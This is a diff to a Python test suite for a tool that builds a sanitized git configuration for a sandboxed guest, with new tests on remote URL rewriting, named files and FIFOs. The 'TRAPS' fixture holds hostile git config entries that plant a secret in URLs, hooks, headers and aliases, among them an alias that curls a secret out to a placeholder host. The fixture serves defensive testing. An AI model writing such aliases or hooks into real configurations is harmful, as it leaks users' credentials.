@@ -29,6 +29,14 @@ TRAPS = f"""
     sslKey = /{SECRET}
 [url "https://u:{SECRET}@host.invalid/"]
     insteadOf = https://host.invalid/
+[url "https://host.invalid/?private_token={SECRET}"]
+    insteadOf = q:
+[url "https://host.invalid/"]
+    insteadOf = https://u:{SECRET}@other.invalid/
+[gc]
+    recentObjectsHook = {SECRET}
+[mailmap]
+    file = /{SECRET}
 [sendemail]
     smtpPass = {SECRET}
 [github]
@@ -42,6 +50,7 @@ TRAPS = f"""
     template = /{SECRET}
 [alias]
     leak = !curl -H {SECRET} host.invalid
+    header = -c http.extraHeader=Authorization:{SECRET} fetch
     push-there = push https://u:{SECRET}@host.invalid/a
 [color "token"]
     secret = {SECRET}
@@ -129,7 +138,7 @@ def test_no_secret_and_no_host_program_ever(repo: GitRepo, home: Path) -> None:
     assert SECRET not in repr(config)
     assert all(SECRET.encode() not in content for content in config.files().values())
     assert dict(config.pairs).keys() == {
-        "user.name", "user.email", "init.defaultbranch", "advice.detachedhead",
+        "user.name", "user.email", "init.defaultbranch", "advice.detachedhead", "protocol.file.allow",
     }  # fmt: skip
 
 
@@ -203,7 +212,7 @@ def test_an_excludes_file_that_is_missing_or_switched_off_is_nothing(repo: GitRe
     append(home / ".config/git/ignore", "*\n")
     append(home / ".gitconfig", "[core]\n\texcludesFile =\n\tattributesFile = ~/nowhere\n")
     config = effective(discover(repo.path), environ(home))
-    assert (config.excludes, config.attributes) == (b"", b"")
+    assert config.contents == ()
     assert set(config.files()) == {"/etc/gitconfig"}
 
 
@@ -227,3 +236,33 @@ def test_a_copy_is_clean_in_the_guest_whatever_the_user_configured(repo: GitRepo
     assert as_guest(copy, files, tmp_path / "root", "status", "--porcelain") == ""
     as_guest(copy, files, tmp_path / "root", "commit", "-q", "--allow-empty", "-m", "unsigned")
     assert copy.git("log", "-1", "--format=%an <%ae>") == "Test User <test@example.com>"
+
+
+def test_a_remote_means_the_same_repository_on_both_sides(repo: GitRepo, home: Path, tmp_path: Path) -> None:
+    append(
+        home / ".gitconfig",
+        '[url "https://example.org/"]\n\tinsteadOf = x:\n[url "ssh://git@example.org/"]\n\tpushInsteadOf = x:\n'
+        '[url "git@example.org:"]\n\tinsteadOf = "work:"\n',
+    )
+    files = effective(discover(repo.path), environ(home)).files()
+    for remote in ("x:a/b", "work:c"):
+        words = ("git", "ls-remote", "--get-url", remote)
+        env = environ(home, PATH=os.environ["PATH"])
+        here = subprocess.run(words, cwd=repo.path, env=env, capture_output=True, check=True).stdout.decode()
+        assert as_guest(repo, files, tmp_path / "root", *words[1:]) == here != f"{remote}\n"
+
+
+def test_the_files_that_settings_name_go_in_with_their_content(repo: GitRepo, home: Path, tmp_path: Path) -> None:
+    append(home / ".gitconfig", f"[commit]\n\ttemplate = ~/template\n[mailmap]\n\tfile = {home}/names\n")
+    append(home / "template", "Why: \n")
+    append(home / "names", "New Name <new@example.com> <test@example.com>\n")
+    files = effective(discover(repo.path), environ(home)).files()
+    named = as_guest(repo, files, tmp_path / "root", "config", "commit.template").strip()
+    assert Path(named).read_text() == "Why: \n"
+    assert as_guest(repo, files, tmp_path / "root", "log", "-1", "--format=%aN") == "New Name\n"
+
+
+def test_a_fifo_in_the_place_of_such_a_file_holds_nobody_up(repo: GitRepo, home: Path) -> None:
+    append(home / ".gitconfig", "[core]\n\texcludesFile = ~/fifo\n")
+    os.mkfifo(home / "fifo")
+    assert effective(discover(repo.path), environ(home)).contents == ()
